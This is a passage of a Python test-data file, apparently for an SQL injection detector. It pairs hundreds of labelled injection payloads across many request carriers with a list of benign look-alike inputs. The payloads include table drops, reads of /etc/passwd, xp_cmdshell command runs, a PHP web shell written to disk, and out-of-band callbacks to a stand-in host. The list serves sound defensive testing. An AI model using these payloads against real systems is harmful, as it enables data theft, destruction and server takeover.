    ("q", "1; execute immediate 'drop table logs'"),
    ("q", "1; create function sys_exec returns integer soname 'lib_mysqludf_sys.so'--"),
    ("q", "1; do $$ begin perform pg_sleep(5); end $$--"),
    ("q", "1;alter table users drop column email--"),
    ("q", "1; load data infile '/etc/passwd' into table t--"),
    ("q", "x' and overlay(password placing 'a' from 1)='a"),
    ("q", "1 and position('a' in (select user))>0"),
    ("q", "1 and substring(user from 1 for 1)='p'"),
    ("q", "1 and trim(both from (select user))='postgres'"),
    ("q", "1' and ascii(substring((select current_database()),1,1))>100--"),
    ("q", "1 and 1=(select 1 from dual where exists(select * from v$instance))"),
    ("q", "' and 1=(select top 1 1 from sys.sql_logins)--"),
    ("q", "1 and (select 1 from openquery(lnk,'select 1'))=1"),
    ("q", "1 and (select httpuritype('http://oast.example/').getclob() from dual) is not null"),
    ("q", "1; select dblink_connect('host=oast.example user=a password=b dbname=c')--"),
    ("q", "1 and 1=(select count(*) from information_schema.columns A, information_schema.columns B, information_schema.columns C)"),
    ("q", "1' and sleep(5) and '1'='1"),
    ("q", "1' and benchmark(9999999,sha1(1)) and '1"),
    ("q", "'; select pg_sleep(5); --"),
    ("q", "1 order by (select 1 from (select sleep(5))a)"),
    ("q", "1 or 1 = 1 -- comment"),
    ("q", "1' having 1=1 -- -"),
    ("q", "')) union all select null,null-- -"),
    ("q", "1)) and 1=1 and ((1=1"),
    ("ua", "sqlmap' AND 7829=7829 AND 'x'='x"),
    ("hdr", "') or sleep(5)='"),
    ("cookie", "' or 1=1 limit 1-- -"),
    ("xml", "1' and updatexml(1,concat(0x7e,database()),1)-- -"),
    ("json", "1\" and \"1\"=\"1"),
    ("path", "1 order by 5-- -"),
    ("multipart", "1;waitfor delay '0:0:5'"),
    # --- batch written after the detector changes above (measured before any further change; see the report)
    ("q", "1 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71,0x78))s), 8446744073709551610, 8446744073709551610)))"),
    ("q", "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a) -- 'x'"),
    ("q", "1' AND (SELECT 8260 FROM (SELECT(SLEEP(5)))zDeP) AND 'qSvx'='qSvx"),
    ("q", "1;SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--"),
    ("q", "1' WAITFOR DELAY '0:0:5' AND 'a'='a"),
    ("q", "1 AND 1=(CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END)"),
    ("q", "1 AND 1=1 UNION ALL SELECT 1,NULL,'<script>alert(1)</script>',table_name FROM information_schema.tables WHERE 2>1--/**/; EXEC xp_cmdshell('cat ../../../etc/passwd')#"),
    ("q", "1 AND ORD(MID((SELECT DISTINCT(IFNULL(CAST(schema_name AS NCHAR),0x20)) FROM INFORMATION_SCHEMA.SCHEMATA LIMIT 0,1),1,1))>64"),
    ("q", "1' AND 3571=(SELECT COUNT(*) FROM DOMAIN.DOMAINS AS T1,INFORMATION_SCHEMA.SYSTEM_USERS AS T2,INFORMATION_SCHEMA.SYSTEM_USERS AS T3)--"),
    ("q", "-1 UNION SELECT 1,2,3,4,5,6,7,8,9,10,11,12,13,14,15--"),
    ("q", "1 UNION SELECT ALL 1,2"),
    ("q", "1 UNION SELECT/*!32302 1/0,*/ 1 FROM tablename"),
    ("q", "1 /*!50000UnIoN*/ /*!50000SeLeCt*/ 1,2,3"),
    ("qraw", "-1%27%20union%20select%201,2--%20"),
    ("qraw", "%2527%2520or%25201%253D1--"),
    ("b64", "' or 1=1--"),
    ("cookie", "xyz' AND (SELECT SUBSTRING(password,1,1) FROM users WHERE username='administrator')='a"),
    ("cookie", "xyz'||(SELECT CASE WHEN (1=1) THEN TO_CHAR(1/0) ELSE '' END FROM dual)||'"),
    ("cookie", "xyz' AND 1=CAST((SELECT username FROM users LIMIT 1) AS int)--"),
    ("q+", "x';SELECT CASE WHEN (1=1) THEN pg_sleep(10) ELSE pg_sleep(0) END--"),
    ("qraw", "'+UNION+SELECT+'abc','def'+FROM+dual--"),
    ("qraw", "'+UNION+SELECT+BANNER,+NULL+FROM+v$version--"),
    ("q", "' UNION SELECT NULL,username||'~'||password FROM users--"),
    ("xmlraw", "1 &#x55;NION &#x53;ELECT username || '~' || password FROM users"),
    ("qraw", "Gifts'+OR+1=1--"),
    ("form", "administrator'--"),
    ("q", "' UNION SELECT table_name, NULL FROM all_tables--"),
    ("q", "id,(SELECT 1 FROM (SELECT SLEEP(5))x)"),
    ("q", "1,(select case when (ascii(substr(user(),1,1))>100) then 1 else 1/0 end)"),
    ("q", "1,1 union select 1"),
    ("json", "1) OR (1=1"),
    ("gql", "1' OR '1'='1"),
    ("gql", "x' union select password from users-- -"),
    ("xff", "127.0.0.1'; DROP TABLE logs;--"),
    ("referer", "'+(select*from(select(sleep(20)))a)+'"),
    ("ua", "Mozilla/5.0'||(select pg_sleep(5))||'"),
    ("path", "1;select pg_sleep(5)"),
    ("path", "1 or 1=1"),
    ("q", "1 or (select 1)=1"),
    ("q", "1'and 'x' like 'x"),
    ("q", "1' or 'x' rlike 'x"),
    ("q", "1 or 'a'='a' -- '"),
    ("qraw", "admin%27%23"),
    ("form", "a@b.com' or '1'='1"),
    ("q", "%' union select 1,2,3-- -"),
    ("q", "a%' and 1=0 union select database(),2#"),
    ("q", "test') and 1=0 union all select 1,2-- "),
    ("q", "1' or '1'='1' /*"),
    ("q", "')) OR 1=1; --"),
    ("q", "1 aNd 1 LiKe 1"),
    ("q", "' OR 'something' = 'some'+'thing'"),
    ("q", "' OR 'text' = N'text'"),
    ("q", "' OR 'a' IN ('a')"),
    ("q", "' OR 'text' > 't'"),
    ("q", "' or 1=1 into outfile '/tmp/x'#"),
    ("q", "1 and (select 1 from users where username like 'a%')=1"),
    ("q", "' AND (SELECT 'a' FROM users LIMIT 1)='a"),
    ("q", "-1 union select 1,2,group_concat(0x3a,username,0x3a,password) from users"),
    ("q", "1' and 1=0 union select null, concat(first_name,0x0a,password) from users #"),
    ("q", "%' or '0'='0"),
    ("q", "1' or 1=1 union select null, version() #"),
    ("q", "1' UNION SELECT 1, @@datadir#"),
    ("q", "iron man' union select 1,login,password,email,secret,1,1 from users -- -"),
    ("q", "Smith' or '1'='1"),
    ("q", "101 or 1=1"),
    ("form", "'; update employees set salary=99999 where last_name='Smith'--"),
    ("q", "')) union select id,email,password,'4','5','6','7','8','9' from users--"),
    ("q", "' or true--"),
    ("form", "admin@juice-sh.example'--"),
    ("q", "qwert')) UNION SELECT sql, '2', '3', '4', '5', '6', '7', '8', '9' FROM sqlite_master--"),
    ("qraw", "1%2f%2a*/union%2f%2a*/select%201,2"),
    ("q", "1 union select 1,2,3 from dual where 1=1 and 0x41=0x41"),
    ("q", "'; EXEC('xp_cmdshell ''whoami'' ')--"),
    ("q", "1; DECLARE @x NVARCHAR(200); SET @x=N'SELECT 1'; EXEC sp_executesql @x--"),
    ("q", "1 AND 1=(SELECT 1 FROM pg_stat_activity LIMIT 1)"),
    ("q", "'; SELECT lo_import('/etc/passwd')--"),
    ("q", "' and 1=(select count(*) from pg_ls_dir('.'))--"),
    ("q", "' AND 1=(SELECT 1 FROM dual WHERE (SELECT SUBSTR(password,1,1) FROM users WHERE username='admin')='a')--"),
    ("q", "' union select 1,group_concat(name) from sqlite_master where type='table'--"),
    ("q", "' and unicode(substr((select name from sqlite_master limit 1),1,1))>97--"),
    ("q", "1 and iif((select count(*) from users)>0,1,0)=1"),
    ("q", "' or length('a')=1--"),
    ("q", "' or md5(1)=md5(1)#"),
    ("q", "' or 1=1--+"),
    ("q", "admin' and 1=1 and '1'='1"),
    ("q", "1 or 1=1;--"),
    ("q", "1 or '1'='1' limit 1"),
    ("q", "x\" and 1=0 union select 1,2,3 -- -"),
    ("qraw", "1%0Aand%0A1=1"),
    ("qraw", "1%09and%091=1"),
    ("q", "1/*!and*/1=1"),
    ("q", "1 aNd/*foo*/1=1"),
    ("qraw", "1%20%26%26%201=1"),
    ("q", "' UNION ALL SELECT LOAD_FILE('/etc/passwd')--"),
    ("q", "' UNION SELECT '<?php phpinfo(); ?>',2 INTO DUMPFILE '/var/www/html/x.php'--"),
    ("q", "1 and gtid_subset(concat(0x7e,(select user()),0x7e),1)"),
    ("q", "1 and st_latfromgeohash(version())"),
    ("q", "1 and jSoN_keYs((sElEcT cOnVeRt((sElEcT vErSiOn()) using utf8)))"),
    ("q", "1 and (select 1 from(select name_const(version(),1),name_const(version(),1))a)"),
    ("q", "1 and linestring((select * from(select * from(select user())a)b))"),
    ("q", "1 and 1=@@version--"),
    ("q", "1' and 1 = (select top 1 cast(name as int) from sys.databases)--"),
    ("q", "' and 1=(select upper(xmltype(chr(60)||chr(58)||(select user from dual)||chr(62))) from dual)--"),
    ("q", "1 AND 1=DBMS_UTILITY.SQLID_TO_SQLHASH((SELECT banner FROM v$version WHERE ROWNUM=1))"),
    # --- truncated probes that leave a string open for the application's quote to close
    ("q", "name like '"),
    ("form", "id = \""),
    ("q", "1 or username like '"),
    # --- batch 5, written blind after the fixes above (exotic literals, dialect syntax, odd carriers)
    ("q", "1 and {fn concat('a','b')}='ab'"),
    ("q", "' or {fn user()}='dbo"),
    ("q", "1 and X'41'=0x41"),
    ("q", "' or _utf8'a'='a"),
    ("q", "' or b'1'=1-- -"),
    ("q", "' or N'a'=N'a'--"),
    ("q", "'; select $tag$x$tag$--"),
    ("q", "' or E'\\x61'='a"),
    ("q", "' or U&'\\0061'='a"),
    ("q", "' or q'[a]'='a"),
    ("q", "'||chr(39)||'"),
    ("q", "1 union select [name] from [master]..[sysdatabases]"),
    ("q", "';exec(char(0x77686f616d69))--"),
    ("q", "1;declare @c varchar(100) set @c=cast(0x77616974666f722064656c61792027303a303a3527 as varchar(100)) exec(@c)"),
    ("q", "1 and 1<=>1"),
    ("q", "1 and !0"),
    ("q", "1 and ~0>1"),
    ("q", "1 xor 1"),
    ("q", "1'^1#"),
    ("q", "1'|1#"),
    ("q", "' or 1 regexp '^[a-z]'#"),
    ("q", "' or 'a' collate utf8_bin = 'a"),
    ("q", "1 and 1 = all (select 1)"),
    ("q", "1 and 1 = any (select 1)"),
    ("q", "1 and (select 1) is not null"),
    ("q", "' and exists (select * from users where name like 'a%')--"),
    ("q", "1 and ascii(mid(lpad(user(),20,0x20),1,1))>0"),
    ("q", "1 and substr(user(),1,1) between 'a' and 'z'"),
    ("q", "1 and (select strcmp(substr(user(),1,1),'r'))=0"),
    ("q", "1 and find_in_set(1,(select 1))"),
    ("q", "1 and instr(user(),'r')>0"),
    ("q", "1 procedure analyse(1,1)"),
    ("q", "1 limit 1 procedure analyse()"),
    ("q", "' or 1=1 order by 1 desc limit 1-- -"),
    ("q", "1 group by 1 with rollup having 1=1"),
    ("q", "1 union select * from users natural join roles"),
    ("q", "1 union select 1 from information_schema.processlist"),
    ("q", "1 and (select count(*) from mysql.user where super_priv='Y')>0"),
    ("q", "1 union select grantee from information_schema.user_privileges"),
    ("q", "1 and pg_sleep(5) is null"),
    ("q", "1 and (select pg_sleep(5)) is null"),
    ("q", "1 and 1=(select 1 from pg_database limit 1)"),
    ("q", "';select * from pg_shadow--"),
    ("q", "' and has_database_privilege('postgres','create')--"),
    ("q", "1 and 1=(select sleep(5) from dual where 1=1)"),
    ("q", "1; select * from dblink('host=oast.example','select 1') as t(a int)--"),
    ("q", "1 and utl_http.request('http://oast.example/') is not null"),
    ("q", "1 and dbms_xmlgen.getxml('select user from dual') is not null"),
    ("q", "' and 1=(select count(*) from user_objects)--"),
    ("q", "' and rownum=1--"),
    ("q", "1 and sys_context('userenv','current_user')='SYS'"),
    ("q", "' union select null from all_tab_columns--"),
    ("q", "1' and 1=(select 1 from sysibm.sysdummy1)--"),
    ("q", "';exec master.dbo.sp_addlogin 'x','y'--"),
    ("q", "'; exec sp_oacreate 'wscript.shell', @o out--"),
    ("q", "1 and is_srvrolemember('sysadmin')=1"),
    ("q", "1 and has_dbaccess('master')=1"),
    ("q", "1 and db_name(0)='master'"),
    ("q", "' and 1=(select top 1 name from master..syslogins)--"),
    ("q", "'; select * from openrowset(bulk 'c:\\windows\\win.ini', single_clob) as x--"),
    ("q", "' and 1=(select count(*) from sqlite_temp_master)--"),
    ("q", "' and typeof(1)='integer'--"),
    ("q", "' and sqlite_version() like '3%'--"),
    ("q", "' and zeroblob(1000000000)--"),
    ("q", "1 and (select hex(randomblob(100000000)))"),
    ("jsonu", "' union select 1,2,3--"),
    ("jsonu", "x'; drop table users--"),
    ("html", "1' and sleep(5)#"),
    ("html", "x' union select 1,2-- -"),
    ("q2", "1 and 1=2 union select 1,@@version"),
    ("b64", "x' and extractvalue(1,concat(0x7e,user()))-- -"),
    ("cookie", "1%20and%20sleep(5)"),
    ("cookie", "guest' union select 'admin','x'-- -"),
    ("ua", "Googlebot/2.1' and 1=(select 1 from pg_sleep(5))--"),
    ("referer", "https://shop.example/p?id=1' or sleep(5)#"),
    ("xff", "1' and (select 1 from (select sleep(5))a)='1"),
    ("hdr", "1 and updatexml(1,concat(0x7e,version()),1)"),
    ("path", "1' union select null,version()-- -"),
    ("path", "x'; waitfor delay '0:0:5'--"),
    ("xml", "1 or 1=1"),
    ("xmlraw", "1 &#x4f;R 1=1"),
    ("xmlraw", "<![CDATA[1' or '1'='1]]>"),
    ("multipart", "x' and 1=convert(int,@@version)--"),
    ("multipart", "'; shutdown--"),
    ("gql", "1 union select 1,2"),
    ("gql", "x' and sleep(5)#"),
    ("form", "1)) or sleep(5)#"),
    ("form", "1' and (select * from users limit 1)=1#"),
    ("form", "' or ''='"),
    ("json", "\\' or 1=1-- -"),
    ("json", "1 UNION SELECT password FROM users WHERE username='admin'"),
    ("q", "' or 1#\n"),
    ("q", "'\nor\n1=1\n-- "),
    ("q", "1\r\nunion\r\nselect 1"),
    ("q", "' OR 1=1 %00"),
    ("q", "1' or '1'='1'\x00"),
    ("q", "1 /*comment*/ or /*comment*/ 1=1"),
    ("q", "1'/*!or*/1=1#"),
    ("q", "1 or 1=1 --\u00a0"),
    ("q", "\u02bc or 1=1-- -"),
    ("q", "1\u2032 or 1=1--"),
    ("q", "x\uff07\u3000or\u30001=1--"),
    ("q", "' or _latin1'admin'='admin"),
    ("q", "1 and x'61646d696e'='admin'"),
    # --- batch 6, written blind (bug-bounty report payloads, CMS PoCs, odd carriers)
    ("q", "1'XOR(if(now()=sysdate(),sleep(5*5),0))OR'"),
    ("q", "'XOR(SELECT(0)FROM(SELECT(SLEEP(5)))a)XOR'Z"),
    ("q", "(SELECT(0)FROM(SELECT(SLEEP(7)))a)"),
    ("qraw", "'%2b(select*from(select(sleep(5)))a)%2b'"),
    ("q", "1 AND (SELECT 6268 FROM (SELECT(SLEEP(5)))ghXo)"),
    ("q", "/**/AND/**/(SELECT/**/1/**/FROM/**/(SELECT(SLEEP(5)))a)"),
    ("q", "orwa' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- -"),
    ("q", "-1 OR 3*2*1=6 AND 000823=000823 --"),
    ("form", "test@example.com' AND SLEEP(5)='"),
    ("q", "1' AND EXTRACTVALUE(8008,CONCAT(0x5c,0x716a787071,(SELECT (ELT(8008=8008,1))),0x717a6b7871)) AND 'tdhs'='tdhs"),
    ("q", "1) AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- -"),
    ("q", "1 UNION ALL SELECT NULL,CONCAT(0x7162766a71,IFNULL(CAST(user_login AS CHAR),0x20),0x71766b7071),NULL FROM wp_users-- -"),
    ("q", "(CASE WHEN (1=1) THEN date ELSE title END)"),
    ("q", "asc,(select sleep(5))"),
    ("q", "a%' and sleep(5) and '%'='"),
    ("formkey", "0;update users set name='admin' where uid=1;#"),
    ("formkey", "0 ;insert into users (uid, name) values (99, 'x');# "),
    ("qraw", "updatexml(0x23,concat(1,user()),1)"),
    ("q", "1 UNION SELECT NULL,NULL,@@version-- -"),
    ("xff", "1' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a) AND '1'='1"),
    ("acceptlang", "en-US,en;q=0.9' AND SLEEP(5)-- -"),
    ("b64cookie", "1' or '1'='1"),
    ("json", "1 AND SLEEP(5)"),
    ("filename", "x' or sleep(5)#.jpg"),
    ("filename", "a'; drop table uploads;--.png"),
    ("qraw", "%2527%2520UNION%2520SELECT%25201,2--"),
    ("qraw", "%u0027%u0020OR%u00201=1--"),
    ("html", "' OR 1=1--"),
    ("qraw", "%ef%bc%87%20or%201=1--%20"),
    ("q", "1' and (select count(*) from wp_users)>0-- -"),
    ("q", "-1' union select 1,user_pass,3 from wp_users where id=1-- -"),
    ("q", "1 and (select substring(concat(1,password),1,1) from users limit 1)=1"),
    ("q", "1 and (select 1)=(select 0x41)"),
    ("q", "1'and(select'1'from(select(sleep(5)))a)='1"),
    ("q", "if(length(database())>1,sleep(5),1)"),
    ("q", "sleep(5)/*' or sleep(5) or '\" or sleep(5) or \"*/"),
    ("q", "1)) and (select 1 from (select sleep(5))x)-- -"),
    ("q", "' and (ascii(substr((select database()),1,1)))>100#"),
    ("q", "1 and left(version(),1)=5"),
    ("q", "' and right(user(),9)='localhost'#"),
    ("q", "1' and lpad(user(),1,1)='r"),
    ("q", "' and 1=2 union select 1,2,3,4,5,6 from dual where '1'='1"),
    ("q", "1 and 1=1 limit 1,1"),
    ("q", "1 limit 1 offset 1 union select 1"),
    ("q", "-1 union select 1,2,(select group_concat(table_name) from information_schema.tables where table_schema=database())"),
    ("q", "1 union select 1,2 from users into outfile '/tmp/users.txt'"),
    ("q", "admin' or 'a'='a' #"),
    ("q", "' or 'a' = 'a"),
    ("q", "' or 0=0 --"),
    ("q", "\" or 0=0 #"),
    ("q", "or 0=0 #"),
    ("q", "' or 'x'='x' /*"),
    ("q", "hi' or 1=1 --"),
    ("q", "') or ('x'='x"),
    ("q", "\") or (\"a\"=\"a"),
    ("q", "hi\") or (\"a\"=\"a"),
    ("q", "1' or 1=1 or ''='"),
    ("q", "' UNION SELECT 1,2,3 FROM information_schema.tables WHERE table_schema NOT IN ('information_schema','mysql')-- -"),
    # --- batch 7, written blind (functions as conditions, charset and server settings, sets and casts)
    ("q", "1; alter database shop character set gbk--"),
    ("q", "' and 1=(select @@character_set_client)--"),
    ("q", "1'; exec sp_configure 'xp_cmdshell',1; reconfigure;--"),
    ("q", "1 and (select user()) rlike '^r'"),
    ("q", "1 && (select 1) regexp 1"),
    ("q", "-1' or 1 regexp 1#"),
    ("q", "1 or 1 sounds like 1"),
    ("q", "1' or elt(1,1)#"),
    ("q", "1 or isnull(1/0)"),
    ("q", "1 or coalesce(null,1)"),
    ("q", "1 and nullif(1,2)"),
    ("q", "1 and 1 in (select 1)"),
    ("q", "1 and 1 not in (select 0)"),
    ("q", "' and not exists(select 1 from dual where 1=0)#"),
    ("q", "1'||(select 'a')='a"),
    ("q", "x'::text||'y"),
    ("q", "'||version()||'"),
    ("q", "' and current_user='root@localhost"),
    ("q", "1 and system_user() like 'sa%'"),
    ("q", "' or session_user()='x"),
    ("q", "1 and schema()='x'"),
    ("q", "1 and user()!=''"),
    ("q", "1 and connection_id()>0"),
    ("q", "1 and last_insert_id()>=0"),
    ("q", "1 and uuid() is not null"),
    ("q", "' or ascii('a')=97 or '"),
    ("q", "1 and ord('a')=97"),
    ("q", "1 and database() like 'shop%'"),
    ("q", "1' and (select length(password) from users where id=1)=32#"),
    ("q", "1 and (select 1 from users where id=1 and password like '5%')"),
    ("q", "1 and 0x31=0x31"),
    ("q", "1 and 'a'<>'b'"),
    ("q", "1 and 2 between 1 and 3"),
    ("q", "1 and 1 is not false"),
    ("q", "-1 or 1 between 0 and 2"),
    ("q", "1 and char_length(user())>1"),
    ("q", "1 and bit_length(user())>1"),
    ("q", "1 and (select 1 from dual) = 1 -- x"),
    ("q", "1' and 'a' not like 'b"),
    ("q", "1' and 'a' not regexp 'b"),
    ("gqlq", "{ user(id: \"1' or '1'='1\") { id } }"),
    ("gqlq", "{ products(search: \"x' union select password from users-- -\") { id } }"),
]

# Values real applications receive that share words, quotes or operators with SQL.
BENIGN: list[tuple[str, str]] = [
    # names and places with apostrophes
    ("form", "O'Reilly"), ("json", "d'Artagnan"), ("q", "O'Brien's Pub"), ("form", "Renée O'Connor-Smith"),
    ("form", "Jean-Luc d'Orsay"), ("json", "N'Golo Kanté"), ("q", "D'Angelo Russell"), ("form", "Ke'alohi"),
    ("form", "12 O'Connell St., Apt #4"), ("json", "Rue de l'Église 5"), ("q", "Côte d'Ivoire"),
    ("cookie", "O'Neil"), ("xml", "Martha's Vineyard"), ("multipart", "Rock 'n' roll classics"),
    ("q", "Guns N' Roses"), ("q", "it's 5 o'clock somewhere"), ("form", "Don't select this option"),
    ("q", "'90s music"), ("q", "5'11\""), ("q", "6' 2\" tall"), ("form", "12\" pizza, 2'x4' board"),
    # prose with SQL words
    ("q", "Select your size from the list"), ("q", "union station"), ("q", "European Union"),
    ("form", "Please select one or more options from the drop-down menu"), ("q", "drop-down menu"),
    ("form", "Drag and drop files here"), ("q", "order by phone"), ("q", "Order #12345"),
    ("form", "I'd like to order by Friday or Saturday"), ("form", "Where from? Union Square, or near it"),
    ("q", "like and subscribe"), ("q", "Tom & Jerry"), ("q", "salt & pepper"), ("q", "cats or dogs"),
    ("form", "We dropped the table from the order last week"), ("q", "between 5 and 10 years"),
    ("q", "size 10 or 12"), ("q", "yes or no"), ("form", "Select 2 or more items to compare"),
    ("form", "Update: the delivery is delayed, sorry! Where is my order?"),
    ("form", "Insert the card into the slot, then select 'Pay'"),
    ("form", "Sleep (8 hours) matters more than you think"), ("q", "benchmark results: 1,000 ops/s"),
    ("form", "Group by color, then sort by size and price"), ("form", "Having fun? Join us from 6pm!"),
    ("q", "credit union savings account"), ("form", "Case closed -- thanks for the help"),
    ("form", "Drop me a line when the union meeting is over"), ("form", "Null and void, or so they say"),
    ("form", "We'll select the winners from all entries and notify them by e-mail"),
    ("form", "If it's not one thing, it's another"), ("form", "I can't sleep; any tips?"),
    # search strings with quotes and dashes
    ("q", "\"red dress\" -cheap"), ("q", "\"new york\" or \"boston\""), ("q", "laptop -refurbished \"16 GB\""),
    ("q", "the \"best\" one--really?"), ("q", "--verbose flag"), ("form", "Best regards -- Tom"),
    ("form", "wait -- what?"), ("q", "rock 'n' roll"), ("q", "\"it's\" -- a 'test'"),
    ("q", "title:\"foo bar\" OR body:baz"), ("q", "status:open AND priority:high"), ("q", "tag:sql -tag:nosql"),
    ("q", "NOT deleted"), ("q", "c# and f# developers"), ("q", "C++ || Java"),
    # SQL-ish product names
    ("q", "MySQL Cookbook"), ("q", "SQL Server 2019 Standard"), ("q", "Learning SQL: select, insert, update"),
    ("q", "Oracle Database 19c"), ("q", "PostgreSQL: Up and Running"), ("q", "SELECT Comfort mattress"),
    ("q", "Union Jack flag"), ("q", "Drop Earrings"), ("q", "Sleep Number bed"),
    # sort and filter parameters
    ("q", "price desc"), ("q", "name asc"), ("q", "-created_at"), ("q", "created_at desc, id asc"),
    ("q", "rating desc,price asc"), ("q", "updated_at"), ("q", "order_by=price"), ("q", "price:asc"),
    ("q", "Price gt 20 and Category eq 'Books'"), ("q", "startswith(Name,'Mc')"),
    # ranges, numbers, maths
    ("q", "10-20"), ("q", "2024-01-01..2024-12-31"), ("q", "10:00-12:00"), ("q", "(a+b)*(c-d)"),
    ("q", "x^2 + y^2 = r^2"), ("q", "e=mc^2"), ("q", "2+2=4"), ("form", "if x=1 then y=2"), ("q", "1/2 cup sugar"),
    ("q", "sin(x)/cos(x)"), ("form", "f(x) = 2x + 1"), ("q", "=SUM(A1:A10)"), ("q", "+1 (555) 123-4567"),
    ("q", "8.5 x 11\""), ("q", "50% off -- today only"), ("q", "3 < 5"),
    # emails, URLs, tokens, codes
    ("form", "john.o'hara@example.ie"), ("form", "first.last+tag@example.co.uk"),
    ("q", "https://example.com/search?q=a&b=c#frag"), ("referer", "https://news.example/a/b?x=1&y=2"),
    ("q", "SKU-1234-XL"), ("q", "#FF0000"), ("q", "ISBN 978-0-596-52068-7"),
    ("json", "0x71C7656EC7ab88b098defB751B7401B5f6d8976F"), ("q", "A-10/B-20"),
    ("cookie", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"),
    ("hdr", "3f2504e0-4f89-11d3-9a0c-0305e82c3301"), ("xff", "203.0.113.7, 10.0.0.1"),
    ("ua", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1"),
    # markdown, code-ish snippets in plain fields
    ("form", "**bold** and _italic_ -- see [docs](https://example.com/docs)"), ("form", "# Heading\n- item 1\n- item 2"),
    ("form", "color: red; font-weight: bold;"), ("json", "{\"a\":1,\"b\":[1,2]}"),
    ("form", "Use `git log --oneline` to see history"), ("q", "select-all"), ("q", "union-find algorithm"),
    ("q", "drop_shipping"), ("q", "group-by"), ("form", "Use and/or, not either/or"),
    ("form", "Tip: press Ctrl+C or Ctrl+V; it's faster"), ("q", "Romeo & Juliet (1968)"),
    ("form", "Tables: 2 (for 4) or 1 (for 6)"), ("form", "My rating: 5/5 -- would order again!"),
    # short phrases with numbers and logic words
    ("q", "1 or 2"), ("q", "2 or 3 days"), ("form", "Select 1 for English, 2 for Spanish"), ("q", "select all"),
    ("form", "Select * to include all"), ("form", "order 2 or 3 pizzas"), ("q", "from 10 to 20"), ("q", "10 and 20"),
    ("form", "item 1 and item 2"), ("q", "between 1 and 2"), ("form", "and 1 more thing"),
    ("form", "Press 'OK' or 'Cancel'"), ("q", "'yes' or 'no'"), ("form", "the 'best' one or the 'worst' one"),
    ("form", "I said 'no' -- then left"), ("form", "O'Brien or O'Neil"), ("form", "Tom's and Jerry's"),
    ("q", "O'Reilly & Sons"), ("q", "Rock'n'Roll or Jazz"),
    ("q", "select box css"), ("q", "sql union vs join"), ("q", "how to drop a column in pandas"),
    ("q", "mysql sleep function"), ("q", "order of operations"), ("q", "like new condition"), ("q", "desc"),
    ("q", "Lord of the Rings -- extended edition"), ("form", "-- no comment --"), ("q", "#1 best seller"),
    ("form", "Room #12 or #14"), ("form", "#hashtag and #another"),
    ("q", "x = y || z"), ("q", "a && b"), ("q", "print('hello')"),
    ("q", "console.log('x')"), ("q", "items.filter(x => x.price > 10)"),
    ("q", "Coca-Cola 0.5l"), ("q", "T-shirt (XL) - 2 pcs"), ("q", "Char-grilled steak"), ("q", "Cast iron pan (12\")"),
    ("q", "Convert PDF to Word"), ("q", "Ascii art generator"), ("q", "Concat strings in Python"),
    ("q", "Hex key set 1.5-10mm"), ("form", "l'union fait la force"), ("form", "qu'est-ce que c'est"),
    ("form", "aujourd'hui ou demain"), ("q", "Sant'Angelo or San Marco"), ("q", "12:00 or 13:00"),
    ("q", "Mon-Fri 9-5"), ("q", "0xDEADBEEF"), ("form", "He said \"select the red one"),
    ("q", "user_id=42"), ("q", "price desc, name"), ("form", "The sleep(5) call blocks the thread"),
    ("form", "Version 2.0 (beta) -- select features only"), ("form", "Is 1=1? Of course it is."),
    ("q", "count(*)"), ("form", "Ships from: Union City, NJ"), ("q", "or"), ("q", "and"),
    ("hdr", "tenant-42"), ("xff", "2001:db8::1"), ("referer", "https://www.google.com/search?q=drop+table+legs&oq=drop"),
    ("ua", "curl/8.5.0"), ("cookie", "sort=price%20desc"),
    # ranges, maths and prose that mimic tautologies
    ("q", "5 or 6"), ("q", "sizes 8 and 10"), ("q", "1 and 2 and 3"), ("q", "rated 4 or 5 stars"),
    ("form", "3*2*1=6 (that's 3 factorial)"), ("form", "the word 'where' is a relative adverb"),
    ("form", "a letter from the union"), ("form", "people having fun at the beach"),
    ("form", "Pick 'from' or 'to' in the dropdown"), ("form", "Ships from the group headquarters"),
    ("form", "He said 'union' and left"), ("form", "'select' is a keyword"), ("form", "my 'into the wild' review"),
    ("q", "Rue de l'Union"), ("q", "Harry Potter and the Order of the Phoenix"), ("q", "Select Committee report"),
    ("q", "union-made boots"), ("q", "like 5 or more"), ("q", "buy 2 get 1 free"), ("q", "A-1 Steak Sauce"),
    ("q", "1+1"), ("q", "The Union and the Confederacy"),
    ("form", "Please update my address; I moved from Main St to Oak Ave"), ("q", "1.5kg or 2kg"),
    ("form", "Can you delete from my cart the blue one?"), ("form", "Sleep Well: select the firmness you like"),
    ("form", "Execute the plan, then select a date"), ("q", "Table 1 - Union results 2019-2020"),
    ("form", "between 9am and 5pm, or by appointment"), ("q", "dell'Orto carburettor"),
    ("form", "I'll be there by 5 or 6 -- promise!"), ("q", "\"sleep\" -mask"), ("q", "char broil grill"),
    ("q", "convert 5 ft to cm"), ("q", "benchmark(s) 2024"), ("form", "Note (1): 2 > 1, as shown."),
    ("form", "Results: 10 (50%) or more"), ("q", "SELECT-Z 4x4 tyres"), ("q", "having a ball"),
    # batch written after the detector changes above
    ("form", "Mary-Kate O'Sullivan"), ("q", "L'Oréal Paris"), ("q", "Dunkin' Donuts"), ("form", "Y'all or you all"),
    ("q", "Hawai'i"), ("q", "Qur'an"), ("q", "Chef's Table"), ("q", "Kid's menu or adult's menu"),
    ("form", "I want to select all items and order them by price"), ("form", "Please don't drop the ball on this one"),
    ("q", "Union Pacific Railroad"), ("form", "Where and when?"), ("form", "From: John, To: Mary"),
    ("q", "case by case"), ("form", "In case of emergency, select 'Exit'"), ("q", "null hypothesis testing"),
    ("q", "true or false quiz"), ("form", "shutdown the computer and restart"), ("q", "execute order 66"),
    ("q", "Insert coin to continue"), ("form", "update available: version 2.1"), ("q", "create account or login"),
    ("q", "truncate text in CSS"), ("q", "merge request #123"), ("form", "show me cheap flights from NYC or BOS"),
